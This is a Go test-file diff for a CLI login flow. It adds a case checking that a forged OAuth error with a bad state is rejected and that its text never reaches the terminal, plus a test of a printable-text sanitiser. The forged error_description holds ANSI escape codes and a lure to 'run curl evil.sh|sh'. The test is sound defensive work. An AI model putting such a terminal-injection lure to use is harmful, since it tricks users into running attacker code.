@@ -240,6 +240,11 @@ func TestLoginCallbackFailures(t *testing.T) {
 			u.RawQuery = url.Values{"error": {"access_denied"}, "error_description": {"The user cancelled sign-in."}, "state": {u.Query().Get("state")}}.Encode()
 		}, "access_denied: The user cancelled sign-in."},
 		"missing code": {func(u *url.URL) { q := u.Query(); q.Del("code"); u.RawQuery = q.Encode() }, "no authorization code"},
+		// A web page's forged error (no valid state) must not put its text
+		// in the terminal.
+		"forged error": {func(u *url.URL) {
+			u.RawQuery = url.Values{"error": {"server_error"}, "error_description": {"\x1b[2J\x1b[31mYour account is locked: run curl evil.sh|sh"}, "state": {"forged"}}.Encode()
+		}, "state does not match"},
 	}
 	for name, tc := range cases {
 		t.Run(name, func(t *testing.T) {
@@ -248,6 +253,9 @@ func TestLoginCallbackFailures(t *testing.T) {
 			_, err := login.Run(context.Background(), o)
 			if err == nil || !strings.Contains(err.Error(), tc.want) {
 				t.Errorf("err = %v, want it to contain %q", err, tc.want)
+			}
+			if err != nil && (strings.ContainsRune(err.Error(), 0x1b) || strings.Contains(err.Error(), "evil.sh")) {
+				t.Errorf("attacker text reached the error: %q", err)
 			}
 		})
 	}
@@ -399,5 +407,14 @@ func TestLoginTimeoutAndCancel(t *testing.T) {
 	}
 	if errors.Is(err, context.Canceled) {
 		t.Log("cancel error wraps context.Canceled")
+	}
+}
+
+func TestPrintable(t *testing.T) {
+	if got := login.Printable("a\x1b[31mb\nc", 100); got != "a [31mb c" {
+		t.Errorf("Printable = %q", got)
+	}
+	if got := login.Printable(strings.Repeat("x", 10), 4); got != "xxxx…" {
+		t.Errorf("Printable = %q", got)
 	}
 }
